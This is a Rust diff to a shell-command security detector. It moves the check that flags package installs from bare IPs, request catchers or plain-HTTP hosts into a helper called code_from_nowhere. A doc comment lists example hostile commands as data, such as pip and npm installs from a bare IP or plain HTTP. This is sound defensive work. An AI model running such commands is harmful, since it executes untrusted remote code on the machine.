@@ -67,6 +67,15 @@ pub(crate) const REMOTE_CODE_DETECTOR: Detector = Detector {
     ],
 };
 
+/// Where code fetched from `url` comes from, when that is nowhere to trust: a request catcher,
+/// a bare IP, or plain HTTP leaving the organisation (anyone on the path can swap it).
+pub(crate) fn code_from_nowhere(url: &str, host: &str, policy: &ShellPolicy) -> Option<HostClass> {
+    let class = classify(host, url, &policy.destinations);
+    let untrusted =
+        matches!(class, HostClass::Untrusted | HostClass::BareIp) || (url.starts_with("http://") && class.leaves());
+    untrusted.then_some(class)
+}
+
 /// `pip install --index-url http://203.0.113.15/simple pkg`, `npm install http://x/p.tgz`: a
 /// package's install code runs on the machine, so a package from a request catcher, a bare IP or
 /// plain HTTP (anyone on the path can swap it) is code from nowhere. Registries and the
@@ -97,10 +106,7 @@ pub(crate) fn package_install(inv: &Invocation<'_>, name: &str, st: &ShellState<
     for source in sources {
         let url = source.trim_start_matches("git+");
         let host = host_of(url);
-        let class = classify(&host, url, &st.policy.destinations);
-        let untrusted =
-            matches!(class, HostClass::Untrusted | HostClass::BareIp) || (url.starts_with("http://") && class.leaves());
-        if untrusted {
+        if let Some(class) = code_from_nowhere(url, &host, st.policy) {
             facts.push(inv.fact(
                 Intent::ExecRemoteCode,
                 Severity::High,
